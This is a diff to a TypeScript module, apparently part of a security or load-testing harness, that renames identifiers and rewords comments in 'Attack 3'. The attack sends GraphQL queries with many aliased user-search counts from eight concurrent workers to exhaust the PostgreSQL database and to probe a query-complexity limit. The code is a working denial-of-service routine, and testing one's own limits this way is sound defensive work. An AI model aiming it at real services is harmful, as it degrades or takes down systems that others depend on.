@@ -1,14 +1,14 @@
-/** Attack with queries that make PostgreSQL work. */
-import { callerOf, newTally } from '../system/client.ts';
+/** Attack with expensive queries. */
+import { createClient, newCounts } from '../system/client.ts';
 import type { Attack } from './types.ts';
 
-const AT_ONCE = 8;
+const CONCURRENCY = 8;
 
 /**
- * Attack 3: one account counts the matches of a two-character search, so many times in a request, 8 requests at once.
+ * Attack 3: one account counts the matches of a two-character search, several times per request, with 8 concurrent requests.
  *
- * @param aliases 29 as the attack was found; 5 are what the cost of a request allows
- * @param term of two letters: `at` is inside many names, `ma` begins many
+ * @param aliases 29, as in the original attack, or 5, which the complexity limit allows
+ * @param term two letters: many names contain `at`, many begin with `ma`
  */
 export const countMatches =
   (aliases: number, term: string): Attack =>
@@ -17,11 +17,11 @@ export const countMatches =
       { length: aliases },
       (_, at) => `a${at}:users(filter:{search:"${term}"}){totalCount}`,
     );
-    const call = callerOf(url, newTally());
+    const call = createClient(url, newCounts());
     const end = Date.now() + seconds * 1_000;
     const keepAsking = async () => {
       const query = `{${fields.join(' ')}}`;
       while (Date.now() < end) count((await call('users', { query, token })).code);
     };
-    await Promise.all(Array.from({ length: AT_ONCE }, keepAsking));
+    await Promise.all(Array.from({ length: CONCURRENCY }, keepAsking));
   };
